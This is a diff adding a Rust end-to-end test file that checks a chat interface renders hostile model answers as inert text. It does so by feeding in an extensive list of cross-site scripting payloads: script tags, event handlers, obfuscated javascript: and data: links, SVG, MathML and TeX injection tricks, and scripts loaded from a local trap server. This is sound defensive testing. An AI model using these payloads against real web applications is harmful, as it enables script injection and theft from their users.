@@ -1,0 +1,262 @@
+//! Answers that mean harm: nothing of them runs, and nothing is fetched.
+
+use serde_json::Value;
+
+use crate::{
+    open, say,
+    support::{Browser, Endpoint, Scope, Step, Trap},
+    wait_for, wait_until,
+};
+
+/// What may be within an answer's text, at any moment. MathML's elements are listed by themselves.
+const ALLOWED: &str = "a blockquote br button code del div em figcaption figure h3 h4 h5 h6 hr input li \
+    ol p pre span strong sup table tbody td th tr ul";
+
+/// Watches every element that comes into an answer's text, from now on: `window.seen` lists what
+/// must not be there, however short.
+async fn watch(browser: &Browser) {
+    let script = format!(
+        "window.seen = [];
+        const allowed = new Set('{ALLOWED}'.split(/\\s+/));
+        const isBad = ({{ name, value }}) =>
+            /^on|^style$|^src|^action|^formaction|^ping$|^poster|^background$|^cite$|href$/i.test(name)
+            && !(name === 'href' && (value === '#' || /^(https?|mailto):$/.test(new URL(value, location).protocol)));
+        const look = (element) => {{
+            if (!element.closest?.('.text')) return;
+            const isMaths = element.namespaceURI.endsWith('MathML');
+            const name = element.localName;
+            if (isMaths ? !/^m[a-z]+$/.test(name) || /annotation|action|semantics/.test(name)
+                    : !allowed.has(name)) seen.push(name);
+            for (const attribute of element.attributes) {{
+                if (isBad(attribute)) seen.push(`${{name}} ${{attribute.name}}=${{attribute.value}}`);
+            }}
+        }};
+        new MutationObserver((records) => {{
+            for (const record of records) {{
+                if (record.type === 'attributes') look(record.target);
+                for (const node of record.addedNodes) {{
+                    if (node.nodeType !== 1) continue;
+                    look(node);
+                    node.querySelectorAll('*').forEach(look);
+                }}
+            }}
+        }}).observe(document.body, {{ childList: true, subtree: true, attributes: true }});
+        for (const element of document.querySelectorAll('.text, .text *')) look(element);"
+    );
+    browser.script(&script).await;
+}
+
+/// Fails if anything ran, or was on the page that must not be.
+async fn is_harmless(browser: &Browser) {
+    assert_eq!(
+        browser.script("return window.seen").await,
+        Value::Array(vec![])
+    );
+    assert!(browser.script("return window.hacked").await.is_null());
+}
+
+/// All that we could think of, with this server to tell.
+fn hostile(trap: &Trap) -> String {
+    let at = format!("http://{}", trap.host());
+    let run = "window.hacked=1";
+    [
+        // Raw HTML, as a block and within a line, whole and broken.
+        format!("<script>{run}</script>"),
+        format!("<script src=\"{at}/script.js\"></script>"),
+        format!("<img src=x onerror=\"{run}\">"),
+        format!("A line with <img src=\"{at}/raw.png\" onerror=\"{run}\"> and <b onclick=\"{run}\">b</b>."),
+        format!("<iframe src=\"{at}/frame\"></iframe><iframe srcdoc=\"<script>parent.{run}</script>\"></iframe>"),
+        format!("<style>@import url({at}/style.css); * {{ background: url({at}/background.png) }}</style>"),
+        format!("<link rel=\"stylesheet\" href=\"{at}/link.css\"><link rel=\"preconnect\" href=\"{at}\">"),
+        format!("<meta http-equiv=\"refresh\" content=\"0;url={at}/refresh\"><base href=\"{at}/\">"),
+        format!("<object data=\"{at}/object\"></object><embed src=\"{at}/embed\"><video src=\"{at}/video\" autoplay></video>"),
+        format!("<svg onload=\"{run}\"><image href=\"{at}/svg.png\"/><a xlink:href=\"javascript:{run}\"><text>x</text></a></svg>"),
+        format!("<math><mtext><table><mglyph><style><img src=x onerror=\"{run}\"></style></mglyph></table></mtext></math>"),
+        format!("<form action=\"{at}/form\"><input autofocus onfocus=\"{run}\"><button formaction=\"javascript:{run}\">b</button></form>"),
+        format!("<details open ontoggle=\"{run}\"><summary>s</summary></details>"),
+        format!("<!--><img src=x onerror=\"{run}\">-->"),
+        // Links in every spelling.
+        format!("[l1](javascript:{run}) [l2](JaVaScRiPt:{run}) [l3](java&Tab;script:{run}) [l4](&#106;avascript:{run})"),
+        format!("[l5](java&#x0A;script:{run}) [l6](<  javascript:{run}>) [l7](&#1;javascript:{run}) [l8](vbscript:{run})"),
+        format!("[l9](data:text/html,<script>parent.{run}</script>) [l10](data:text/html;base64,PHNjcmlwdD4=) [l11](file:///etc/passwd)"),
+        format!("<javascript:{run}> <data:text/html,x> [l12][evil] [l13](javascript&colon;{run}) [l14](javascript://example.com/%0a{run})"),
+        format!("[l15](blob:{at}/b) [l16](//javascript:{run}) [l17](view-source:{at}/) [l18](http:javascript:{run})"),
+        format!("[evil]: javascript:{run}"),
+        // What looks like attributes.
+        format!("[t1]({at}/t1 \"\\\" onmouseover=\\\"{run}\") [t2]({at}/t2 'x\" autofocus onfocus=\"{run}') [t3]({at}/\" onclick=\"{run})"),
+        format!("![\" onerror=\"{run}]({at}/alt.png \"\\\" onload=\\\"{run}\")"),
+        // Images, which only the reader may have fetched.
+        format!("![pixel]({at}/pixel.gif) ![data](data:image/svg+xml,<svg/onload={run}>) ![script](javascript:{run}) ![reference][r]"),
+        format!("[![linked]({at}/linked.gif)]({at}/linked)"),
+        format!("[r]: {at}/reference.gif"),
+        // Formulas.
+        format!("$\\href{{javascript:{run}}}{{x}}$ $\\url{{javascript:{run}}}$ $\\html{{<img src=x onerror={run}>}}$"),
+        format!("$\\htmlData{{onclick={run}}}{{x}}$ $\\class{{x\" onclick=\"{run}}}{{y}}$ $\\cssId{{a}}{{b}}$ $\\style{{background:url({at}/maths.png)}}{{x}}$"),
+        format!("$\\text{{<img src=x onerror={run}>}}$ $\\operatorname{{<img src=x onerror={run}>}}$ $\\mathrm{{\"><script>{run}</script>}}$"),
+        format!("$\\includegraphics{{{at}/graphics.png}}$ $\\color{{red\" onload=\"{run}}}{{x}}$ $\\def\\a{{\\a\\a}}\\a$ $\\input{{/etc/passwd}}$"),
+        format!("$$\\begin{{array}}{{c\"onclick=\"{run}}} <mglyph src=\"{at}/glyph.png\"/> \\end{{array}}$$"),
+        "$x^{&lt;script&gt;}$ $<annotation-xml encoding=\"text/html\"><img src=x></annotation-xml>$".to_owned(),
+        // Fences, notes and tables.
+        format!("```\"><img/src=x/onerror={run}>\ncode 1\n```"),
+        format!("```x\"onclick=\"{run}\ncode 2 <img src=x onerror={run}>\n```"),
+        format!("```html\n<img src=\"{at}/preview.png\" onerror=\"{run}\"><script>parent.{run}</script>\n```"),
+        format!("| <img src=x onerror={run}> |\n|---|\n| [l](javascript:{run}) |"),
+        format!("Note[^\"onclick={run}]\n\n[^\"onclick={run}]: <img src=x onerror={run}>"),
+        format!("> [!NOTE\" onclick=\"{run}]\n> x"),
+        format!("# <img src=x onerror={run}> {{#id onclick={run}}}"),
+        "The last of all.".to_owned(),
+    ]
+    .join("\n\n")
+}
+
+/// Sends a text in pieces of so many characters.
+fn pieces(text: &str, size: usize) -> Vec<Step> {
+    let letters: Vec<_> = text.chars().collect();
+    let mut steps = Vec::new();
+    for piece in letters.chunks(size) {
+        steps.extend([Step::Say(piece.iter().collect()), Step::Rest(5)]);
+    }
+    steps.push(Step::Finish("stop"));
+    steps
+}
+
+async fn is_drawn(answer: &Scope) {
+    answer.says("The last of all.").await;
+    // Formulas and code take their way through a worker: what can be set of these is.
+    answer
+        .comes_true("return it.querySelectorAll('math').length > 0")
+        .await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn nothing_of_a_hostile_answer_runs_or_is_fetched() {
+    let endpoint = Endpoint::start(&["m"]).await;
+    let trap = Trap::set().await;
+    let text = hostile(&trap);
+    endpoint.will("m", pieces(&text, 17));
+    let browser = open(&endpoint, "").await;
+    watch(&browser).await;
+    let card = browser.card(1).await;
+    card.send("Go").await;
+    let answer = card.find("article", "m").await;
+    is_drawn(&answer).await;
+    card.find("button", "Send").await;
+    is_harmless(&browser).await;
+    // Markup is shown as it was written.
+    for written in [
+        "<script>window.hacked=1</script>",
+        "onclick=\"window.hacked=1\"",
+    ] {
+        answer.says(written).await;
+    }
+    // Only the links that lead to the web are links.
+    let links = "return [...it.querySelectorAll('a[href]')].map((link) => link.textContent)";
+    let links = answer.script(links).await;
+    for link in links.as_array().unwrap() {
+        let name = link.as_str().unwrap();
+        let number = name
+            .strip_prefix('l')
+            .and_then(|number| number.parse::<u32>().ok());
+        assert!(number.is_none_or(|number| number == 18), "{links}");
+    }
+    // Neither does what is clicked, but for links that open in a tab of their own.
+    answer
+        .script(
+            "for (const element of it.querySelectorAll('.text *')) {
+                if (!element.closest('a, button')) {
+                    element.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
+                }
+            }",
+        )
+        .await;
+    is_harmless(&browser).await;
+
+    browser.reload().await;
+    watch(&browser).await;
+    let answer = browser.card(1).await.find("article", "m").await;
+    is_drawn(&answer).await;
+    is_harmless(&browser).await;
+    assert_eq!(trap.heard(), [String::new(); 0]);
+    assert_eq!(browser.driver.windows().await.unwrap().len(), 1);
+
+    // An image comes when the reader wants it, and nothing else with it.
+    answer
+        .press(&format!("Load image pixel ({})", trap.host()))
+        .await;
+    let image = answer.find("image", "pixel").await;
+    image
+        .comes_true("return it.complete && it.naturalWidth === 1")
+        .await;
+    wait_until(|| trap.heard() == ["GET /pixel.gif HTTP/1.1"]).await;
+    let told = trap.heads().concat().to_ascii_lowercase();
+    assert!(
+        !told.contains("\nreferer:") && !told.contains("\ncookie:"),
+        "{told}"
+    );
+    assert!(browser.script("return window.hacked").await.is_null());
+    browser.close().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn an_image_within_a_link_is_loaded_without_following_the_link() {
+    let endpoint = Endpoint::start(&["m"]).await;
+    let trap = Trap::set().await;
+    let at = format!("http://{}", trap.host());
+    let text = format!("[![linked]({at}/linked.gif)]({at}/followed)");
+    endpoint.will("m", [say(&text), Step::Finish("stop")]);
+    let browser = open(&endpoint, "").await;
+    let card = browser.card(1).await;
+    card.send("Go").await;
+    let answer = card.find("article", "m").await;
+    answer
+        .press(&format!("Load image linked ({})", trap.host()))
+        .await;
+    let image = answer.find("image", "linked").await;
+    image
+        .comes_true("return it.complete && it.naturalWidth === 1")
+        .await;
+    assert_eq!(trap.heard(), ["GET /linked.gif HTTP/1.1"]);
+    assert_eq!(browser.driver.windows().await.unwrap().len(), 1);
+    // The picture is then the link, as it was meant.
+    image.click().await;
+    wait_for(async || browser.driver.windows().await.unwrap().len() == 2).await;
+    browser.close().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_a_reader_asks_a_model_says_and_thinks_is_text_everywhere() {
+    let endpoint = Endpoint::start(&["m"]).await;
+    let trap = Trap::set().await;
+    let hostile = format!(
+        "<img src=\"http://{}/x.png\" onerror=\"window.hacked = 1\"><script>window.hacked = 1</script>&lt;",
+        trap.host()
+    );
+    endpoint.will(
+        "m",
+        [
+            Step::Delta(serde_json::json!({ "reasoning_content": hostile })),
+            say(&hostile),
+            Step::Finish("stop"),
+        ],
+    );
+    let browser = open(&endpoint, "").await;
+    watch(&browser).await;
+    let card = browser.card(1).await;
+    card.send(&hostile).await;
+    card.find("article", "You").await.says(&hostile).await;
+    let answer = card.find("article", "m").await;
+    answer.says("<script>window.hacked = 1</script>").await;
+    card.find("button", "Send").await;
+    answer.nth("DisclosureTriangle", 0).await.click().await;
+    answer
+        .shows("the thoughts and the answer", |shown| {
+            shown.matches("<script>").count() == 2
+        })
+        .await;
+    // Also what the history makes of it.
+    let history = browser.history().await;
+    history.says("<img src=").await;
+    is_harmless(&browser).await;
+    assert_eq!(trap.heard(), [String::new(); 0]);
+    browser.close().await;
+}
